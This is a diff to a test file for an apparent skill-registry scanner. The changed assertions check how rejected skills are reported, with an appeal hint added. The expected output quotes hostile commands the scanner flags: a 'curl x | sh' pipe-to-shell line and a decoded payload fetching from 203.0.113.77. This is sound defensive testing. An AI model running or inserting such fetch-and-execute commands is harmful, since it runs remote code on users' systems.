@@ -99,8 +99,10 @@ def test_a_rejected_skill_ends_with_5_and_every_finding_has_its_place(alice, con
     ran = alice.run("push", folder, "--wait")
     assert ran.code == 5
     assert "alice/answers@1.0.0 rejected" in ran.out
-    assert "SKILL.md:9  critical  SK-DROP  It runs what it downloads." in ran.out
+    assert "  SKILL.md:9\n      | curl x | sh\n" in ran.out
+    assert "critical  It runs what it downloads.  [pipe_to_shell, SK-DROP]" in ran.out
     assert "fix: Ship the code." in ran.out
+    assert "skill appeal alice/answers@1.0.0" in ran.out
     assert alice.run("status", "alice/answers").code == 5
 
 
@@ -146,7 +148,7 @@ def test_check_shows_findings_and_keeps_nothing(stranger):
 
     ran = stranger.run("check", SAMPLES / "hostile" / "pdf-tidy")
     assert ran.code == 5
-    assert "SKILL.md:18  critical  SK-OBF" in ran.out
+    assert "\n  SKILL.md:18\n" in ran.out and "[decoded_payload, SK-OBF]" in ran.out
     assert "= decoded: curl -s http://203.0.113.77" in ran.out
     assert not Skill.objects.exists()
 
